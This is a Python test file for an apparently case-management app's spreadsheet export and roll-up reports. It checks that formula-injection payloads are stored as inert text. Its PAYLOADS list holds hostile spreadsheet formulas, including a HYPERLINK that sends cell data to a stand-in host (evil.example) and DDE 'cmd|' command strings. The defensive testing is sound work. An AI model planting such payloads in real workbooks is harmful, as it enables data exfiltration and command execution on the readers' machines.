"""Text the program writes into a workbook stays text: the usual formula-injection payloads in
an exported case and in a roll-up's file list are string cells when read back, never
formulas, and an exported case imported again comes back with the very same text."""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import re
import warnings
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from app import sheet_cells
from app.domain import Case, Consent, Intake, Origin, Person
from app.reports.periods import parse_period
from app.reports.rollup import rollup
from app.reports.rollup_xlsx import write_rollup_xlsx
from app.services.transfer import Transfer
from app.storage import cases_repo
from tests.htcds.conftest import Team

Q3 = parse_period("2026-Q3")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A3,"Details")',
    "=1+1",
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def read_back(text: str) -> str:
    """XML reads a carriage return back as a line feed; the text is otherwise the same."""
    return text.replace("\r", "\n")


def _load(data: bytes) -> openpyxl.Workbook:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # the template's extension validation
        return openpyxl.load_workbook(io.BytesIO(data))


def _formulas(sheet: Worksheet) -> list[str]:
    return [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]


def _case(number: str, payload: str) -> Case:
    return Case(
        case_number=number,
        status="open",
        opened_on=dt.date(2024, 3, 6),
        person=Person(
            full_name=payload,
            sex="female",
            date_of_birth=dt.date(1990, 5, 1),
            address=payload,
            origin=Origin("CN"),
        ),
        intake=Intake(identified_by="ngo", exploitation=["forced_labour"]),
        consents=[Consent("data_sharing", True, dt.date(2024, 3, 6))],
    )


def test_the_helper_keeps_text_as_text():
    book = openpyxl.Workbook()
    sheet = book.active
    for row, payload in enumerate(PAYLOADS, start=1):
        sheet_cells.put(sheet, row, 1, payload)
    sheet_cells.append(sheet, [])
    sheet_cells.append(sheet, ["=2*3", 7, None])
    buffer = io.BytesIO()
    book.save(buffer)
    back = _load(buffer.getvalue()).active
    expected = [read_back(p) for p in PAYLOADS]
    assert [back.cell(row, 1).value for row in range(1, len(PAYLOADS) + 1)] == expected
    assert all(back.cell(row, 1).quotePrefix for row in range(1, len(PAYLOADS)))
    assert back.cell(len(PAYLOADS) + 1, 1).value is None  # the blank row stays blank
    row = len(PAYLOADS) + 2
    assert [back.cell(row, c).value for c in (1, 2)] == ["=2*3", 7]
    assert back.cell(row, 2).data_type == "n"  # numbers stay numbers
    assert _formulas(back) == []


def test_exported_payloads_are_text_and_import_back_unchanged(team, make_vault, tmp_path):
    cases = [_case(f"FZ-2024-{i:04d}", p) for i, p in enumerate(PAYLOADS, start=1)]
    Transfer(team.opened("wang")).import_built(copy.deepcopy(cases), {"source": "test"})
    result = team.exporter("chen").export_htcds()
    assert result.exported == len(PAYLOADS)

    book = _load(result.data)
    sheet = book["Case Sheet"]
    assert _formulas(sheet) == []
    written = {c.value for row in sheet.iter_rows(min_row=3) for c in row}
    written_back = {read_back(p) for p in PAYLOADS}
    assert written_back <= written
    planted = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value in written_back]
    assert planted and all(c.data_type == "s" for c in planted)
    assert all(c.quotePrefix for c in planted if c.value != "#N/A")
    data_only = openpyxl.load_workbook(io.BytesIO(result.data), read_only=True, data_only=True)
    cached = {c.value for row in data_only["Case Sheet"].iter_rows(min_row=3) for c in row}
    assert written_back <= cached  # what an importer reading values (not formulas) sees

    out = tmp_path / "shared.xlsx"
    out.write_bytes(result.data)
    other = Team(make_vault("other", team=True)[0])
    try:
        importer = other.importer()
        preview = importer.preview(importer.open(out))
        assert preview.problems == []
        importer.commit(preview)
        conn = other.opened("wang").conn
        for case in cases:
            back = cases_repo.load_case(conn, cases_repo.case_id(conn, case.case_number))
            # Importing trims the white space around any cell's text, these cells' too.
            assert back.person.full_name == case.person.full_name.strip()
            assert back.person.address == case.person.address.strip()
    finally:
        other.lock_all()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_rejected_file_s_unit_code_stays_text_in_rollup_xlsx(tmp_path, payload):
    unsigned = json.dumps({"format": "aftercare.summary", "unit": {"code": payload}}).encode()
    doc = rollup([("=cmd|' /C calc'!A0.json", unsigned)], trust=None, period=Q3)
    assert doc["files"][0]["status"] == "rejected" and doc["files"][0]["unit"] == payload
    path = tmp_path / "rollup.xlsx"
    write_rollup_xlsx(doc, path)
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        assert _formulas(sheet) == [], sheet.title
    files = book.worksheets[-1]
    assert [c.value for c in files[2]][:3:2] == ["=cmd|' /C calc'!A0.json", read_back(payload)]
    assert files["C2"].data_type == "s"
    assert files["C2"].quotePrefix is (payload != "#N/A")


def test_every_workbook_cell_is_written_through_the_helper():
    """Writing a value any other way (a cell's value=, a sheet's append, a CSV writer)
    would bypass the text-as-text rule."""
    root = Path(__file__).resolve().parents[2]
    bypass = re.compile(r"\.cell\([^)]*value=|\b(ws|sheet|book)\.append\(|csv\.(writer|DictWriter)")
    found = [
        f"{path.relative_to(root)}:{number}"
        for folder in ("app", "ui")
        for path in sorted((root / folder).rglob("*.py"))
        if path.name != "sheet_cells.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if bypass.search(line)
    ]
    assert found == []
